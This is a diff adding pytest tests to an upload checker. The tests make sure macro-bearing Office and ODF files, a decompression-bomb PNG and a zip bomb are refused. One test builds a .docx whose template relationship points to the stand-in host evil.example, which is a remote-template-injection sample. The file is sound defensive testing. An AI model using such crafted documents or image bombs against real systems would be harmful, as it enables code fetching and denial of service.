@@ -2,8 +2,10 @@
 
 import io
 import os
+import struct
 import tracemalloc
 import zipfile
+import zlib
 from pathlib import Path
 
 import pytest
@@ -14,6 +16,7 @@ from roundtable.db import db
 from roundtable.errors import Refusal
 from roundtable.files import actions
 from roundtable.files.kinds import kind_of
+from tests.evidence import papers
 
 
 def _archive(*names: str) -> bytes:
@@ -77,7 +80,8 @@ def test_what_unpacks_to_a_hundred_times_its_size_is_not_unpacked() -> None:
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("mimetype", b"application/vnd.oasis.opendocument.text" + b"\0" * 50_000_000)
     tracemalloc.start()
-    kind_of("minutes.odt", buffer.getvalue())
+    with pytest.raises(Refusal, match="unpacks to 47 MB in 1 parts"):
+        kind_of("minutes.odt", buffer.getvalue())
     peak = tracemalloc.get_traced_memory()[1]
     tracemalloc.stop()
     assert peak < 5_000_000
@@ -128,3 +132,59 @@ def test_each_folder_is_swept_once_an_hour(app: Flask, monkeypatch: pytest.Monke
         monkeypatch.setattr(clock, "now", lambda minute=minute: now.replace(minute=minute))
         actions.remove_orphans()
     assert not place.exists()
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("case.docx", papers.archive({"word/document.xml": "x", "word/VBAPROJECT.BIN": "x"})),
+        (
+            "case.docx",
+            papers.archive(
+                {
+                    "word/document.xml": "x",
+                    "[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
+                }
+            ),
+        ),
+        ("sheet.xlsx", papers.archive({"xl/workbook.xml": "x", "xl/macrosheets/sheet1.xml": "x"})),
+        (
+            "case.odt",
+            papers.archive(
+                {
+                    "mimetype": "application/vnd.oasis.opendocument.text",
+                    "Basic/Standard/Module1.xml": "x",
+                }
+            ),
+        ),
+        (
+            "case.odt",
+            papers.archive(
+                {"mimetype": "application/vnd.oasis.opendocument.text", "Scripts/python/a.py": "x"}
+            ),
+        ),
+    ],
+)
+def test_macros_are_refused_wherever_they_stand(name: str, content: bytes) -> None:
+    with pytest.raises(Refusal, match=f"{name} holds macros"):
+        kind_of(name, content)
+
+
+def test_a_document_that_fetches_its_template_from_elsewhere_is_refused() -> None:
+    rels = '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
+    content = papers.archive({"word/document.xml": "x", "word/_rels/settings.xml.rels": rels})
+    with pytest.raises(Refusal, match="fetches a template from elsewhere"):
+        kind_of("case.docx", content)
+
+
+def test_a_picture_that_unpacks_to_gigabytes_is_refused_by_its_head() -> None:
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
+    bomb = b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
+    with pytest.raises(Refusal, match="too large a picture: at most 80 million points"):
+        kind_of("huge.png", bomb)
+    with pytest.raises(Refusal, match="no picture can be read"):
+        kind_of("half.png", b"\x89PNG\r\n\x1a\n and nothing")
+    assert kind_of("site.jpg", papers.picture()).extension == ".jpg"
